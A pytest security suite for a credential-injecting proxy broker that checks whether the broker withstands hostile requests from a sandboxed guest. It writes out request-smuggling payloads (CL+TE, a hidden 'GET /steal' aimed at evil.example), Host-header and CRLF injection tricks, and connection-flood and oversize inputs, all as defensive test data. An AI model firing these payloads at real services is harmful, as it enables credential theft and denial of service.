# SPDX-License-Identifier: Apache-2.0
# test_96_hostile_broker.py - attacks on kosa8-broker from the sandbox's position: anything
# on the broker's socket (what root in the guest will reach through kosa8-net). Each test
# asserts the attack fails, is counted where it is a refusal, reaches no upstream it
# should not, and leaves the broker alive with its secrets intact (the next honest
# request still gets the real key upstream).
import gzip
import json
import os
import shutil
import socket
import tempfile
import time

import pytest

import brokerkit as bk

pytestmark = [pytest.mark.hostile,
              pytest.mark.skipif(os.geteuid() != 0, reason="needs root for network namespaces")]

SECRETS = {"openai": "sk-REAL-hostile-0123", "ex": "ex-REAL-hostile-4567"}
RULES = ["openai=openai", "header:api.example.com:X-Api-Key=ex"]


@pytest.fixture(scope="module")
def env():
    d = tempfile.mkdtemp(prefix="k8bh", dir="/tmp")
    up = bk.Upstream(d)
    b = bk.Broker(d, "h", RULES, dict(SECRETS), upstream=up,
                  extra=["--workers", "4", "--idle-timeout", "1500", "--max-body", "4096"])
    yield b, up
    b.close()
    up.close()
    shutil.rmtree(d, ignore_errors=True)


def send(b, data, timeout=5):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(timeout)
    s.connect(b.sock)
    try:
        s.sendall(data)
    except (BrokenPipeError, ConnectionResetError):
        pass
    out = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except (socket.timeout, ConnectionResetError):
        pass
    s.close()
    return out


def honest_request_still_works(b, up):
    n0 = len(up.records())
    out = send(b, b"GET /ok HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " +
               b.placeholder.encode() + b"\r\nConnection: close\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 200"), out[:200]
    rec = up.records()[n0]
    assert dict((k.lower(), v) for k, v in rec["headers"])["x-api-key"] == SECRETS["ex"]
    assert b.proc.poll() is None


def test_host_tricks_reach_no_other_host(env):
    b, up = env
    ph = b.placeholder.encode()
    n0 = len(up.records())
    for host in (b"api.openai.com@evil.example", b"evil.example#api.openai.com",
                 b"api.openai.com.evil.example", b"evil.example/api.openai.com",
                 b"API.OPENAI.COM:443:1", b"127.0.0.1", b"[::1]"):
        out = send(b, b"GET /v1/models HTTP/1.1\r\nHost: " + host +
                   b"\r\nAuthorization: Bearer " + ph + b"\r\n\r\n")
        assert out.startswith(b"HTTP/1.1 421"), (host, out[:120])
    # absolute-form and CONNECT cannot name another destination
    for line in (b"GET http://evil.example/ HTTP/1.1", b"CONNECT evil.example:443 HTTP/1.1"):
        out = send(b, line + b"\r\nHost: api.openai.com\r\nAuthorization: Bearer " + ph +
                   b"\r\n\r\n")
        assert out.startswith(b"HTTP/1.1 400"), out[:120]
    assert len(up.records()) == n0
    honest_request_still_works(b, up)


def test_smuggled_second_request_is_body_not_request(env):
    """A request hidden in a body reaches the upstream as body bytes, never as a request
    the broker authorizes; CL+TE and obs-fold are refused outright."""
    b, up = env
    ph = b.placeholder.encode()
    hidden = b"GET /steal HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    n0 = len(up.records())
    out = send(b, b"POST /v1/x HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " + ph +
               b"\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(hidden) + hidden)
    assert out.count(b"HTTP/1.1 200") == 1
    recs = up.records()[n0:]
    assert [r["path"] for r in recs] == ["/v1/x"]
    assert recs[0]["body"] == hidden.decode()
    before = b.stats()["refused"].get("bad_request", 0)
    out = send(b, b"POST /v1/x HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " + ph +
               b"\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n" + hidden)
    assert out.startswith(b"HTTP/1.1 400") and out.count(b"HTTP/1.1") == 1
    assert b.stats()["refused"]["bad_request"] == before + 1
    assert [r["path"] for r in up.records()[n0:]] == ["/v1/x"]


def test_credential_header_games(env):
    """Two credential headers, header-name case tricks, a CRLF in a value: never a second
    credential upstream, never a header the guest chose in the key's place."""
    b, up = env
    ph = b.placeholder.encode()
    n0 = len(up.records())
    out = send(b, b"GET / HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " + ph +
               b"\r\nx-api-KEY: " + ph + b"\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 400"), out[:100]
    out = send(b, b"GET / HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " + ph +
               b"\r\nX-Inject: a\rX-Api-Key: mine\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 400")
    assert len(up.records()) == n0
    # the guest's own Authorization next to a valid placeholder: stripped, not forwarded
    out = send(b, b"GET /c HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " + ph +
               b"\r\nAuthorization: Bearer guest-token\r\nProxy-Authorization: x\r\n"
               b"Connection: close\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 200")
    hdr = [k.lower() for k, _ in up.records()[n0]["headers"]]
    assert "authorization" not in hdr and "proxy-authorization" not in hdr
    assert hdr.count("x-api-key") == 1


def test_exhaustion_and_oversize_do_not_kill_it(env):
    """Slow clients holding every worker, a flood of connections, huge chunk sizes and
    heads: refused and counted; afterwards the broker answers as before."""
    b, up = env
    ph = b.placeholder.encode()
    # four workers: hold them with half-sent heads, then flood
    slow = []
    for _ in range(4):
        s = socket.socket(socket.AF_UNIX)
        s.connect(b.sock)
        s.sendall(b"GET / HTTP/1.1\r\nHost: api.example.com\r\n")
        slow.append(s)
    flood = []
    for _ in range(80):
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(5)
        s.connect(b.sock)
        flood.append(s)
    busy = 0
    for s in reversed(flood):      # the last ones found the queue full: answered at once
        s.settimeout(0.5)
        try:
            if s.recv(100).startswith(b"HTTP/1.1 503"):
                busy += 1
        except socket.timeout:
            pass
        s.close()
    assert busy > 0
    for s in slow:
        s.close()
    assert bk.wait_for(lambda: b.stats()["refused"].get("busy", 0) >= busy)
    time.sleep(2)       # the idle timeout (1.5 s) frees the workers held by queued sockets
    before = b.stats()["refused"].get("too_large", 0)
    out = send(b, b"POST / HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " + ph +
               b"\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffff\r\n" + b"A" * 8192)
    assert out.startswith(b"HTTP/1.1 413"), out[:100]
    out = send(b, b"GET / HTTP/1.1\r\nHost: api.example.com\r\n" + b"X: y\r\n" * 20000)
    assert out.startswith(b"HTTP/1.1 431")
    assert b.stats()["refused"]["too_large"] >= before + 1
    honest_request_still_works(b, up)


def test_no_secret_leaks_into_answers_logs_or_stats(env):
    b, up = env
    everything = []
    for req in (b"GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer " +
                SECRETS["openai"].encode() + b"\r\n\r\n",
                b"GET / HTTP/1.1\r\nHost: nowhere.example\r\n\r\n",
                b"GARBAGE\r\n\r\n"):
        everything.append(send(b, req))
    text = b"".join(everything).decode(errors="replace") + b.read_log() + \
        json.dumps(b.stats())
    for v in SECRETS.values():
        assert v not in text
    honest_request_still_works(b, up)


def test_a_reflecting_upstream_does_not_hand_back_the_key(env):
    """A rule's host that echoes request headers: the key is caught in the response head
    (refused, nothing passed on) or in the body (cut off before it)."""
    b, up = env
    ph = b.placeholder.encode()
    key = SECRETS["ex"].encode()
    before = b.stats()["refused"].get("upstream_protocol", 0)
    out = send(b, b"GET /reflect-head HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " + ph +
               b"\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 502") and key not in out, out[:300]
    assert b"contained the API key" in out
    out = send(b, b"GET /reflect HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " + ph +
               b"\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 200") and key not in out, out[:300]
    assert out.endswith(b"x" * 16)          # the body up to the key, then the cut
    assert b.stats()["refused"]["upstream_protocol"] == before + 2
    honest_request_still_works(b, up)


def body_of(out):
    """The body the client saw, de-chunked when the head says so (as a client would)."""
    head, _, body = out.partition(b"\r\n\r\n")
    if b"transfer-encoding: chunked" not in head.lower():
        return body
    data = b""
    while body:
        size, _, body = body.partition(b"\r\n")
        n = int(size.split(b";")[0] or b"0", 16)
        if n == 0:
            break
        data, body = data + body[:n], body[n + 2:]
    return data


def test_a_compressed_echo_does_not_carry_the_key(env):
    """Issue 34, 2: the guard reads the key's plain bytes, so the broker asks the upstream
    for identity (whatever the client offered) and refuses a compressed answer."""
    b, up = env
    ph = b.placeholder.encode()
    key = SECRETS["ex"].encode()
    before = b.stats()["refused"].get("upstream_protocol", 0)
    n0 = len(up.records())
    out = send(b, b"GET /reflect-gzip HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " + ph +
               b"\r\nAccept-Encoding: gzip, deflate, br\r\n\r\n")
    head = out.partition(b"\r\n\r\n")[0].lower()
    assert b"content-encoding" not in head, out[:300]
    assert key not in out and key not in (gzip.decompress(body_of(out))
                                          if body_of(out).startswith(b"\x1f\x8b") else b"")
    hdr = dict((k.lower(), v) for k, v in up.records()[n0]["headers"])
    assert hdr["accept-encoding"] == "identity", hdr
    # an upstream that compresses anyway: refused before anything reaches the client
    out = send(b, b"GET /reflect-gzip-always HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " +
               ph + b"\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 502") and b"Content-Encoding" in out, out[:400]
    assert b"upstream_protocol" in out and b"\x1f\x8b" not in out
    assert b.stats()["refused"]["upstream_protocol"] == before + 2
    honest_request_still_works(b, up)


def test_a_key_split_across_reads_or_chunks_is_caught(env):
    """Issue 34, 2: the echoed key arrives in two reads (and, chunked, in two chunks): the
    guard sees the body as one stream, and holds back a possible start of the key, so the
    client gets none of it, not even its first half."""
    b, up = env
    ph = b.placeholder.encode()
    key = SECRETS["ex"].encode()
    before = b.stats()["refused"].get("upstream_protocol", 0)
    for path in (b"/reflect-split", b"/reflect-chunked"):
        out = send(b, b"GET " + path + b" HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: " +
                   ph + b"\r\n\r\n")
        assert out.startswith(b"HTTP/1.1 200"), (path, out[:300])
        body = body_of(out)
        assert key not in out and key not in body, (path, out)
        assert key[:len(key) // 2] not in body, (path, body)
        assert body.endswith(b'"X-Api-Key": "'), (path, body)  # everything before the key
    assert b.stats()["refused"]["upstream_protocol"] == before + 2
    honest_request_still_works(b, up)
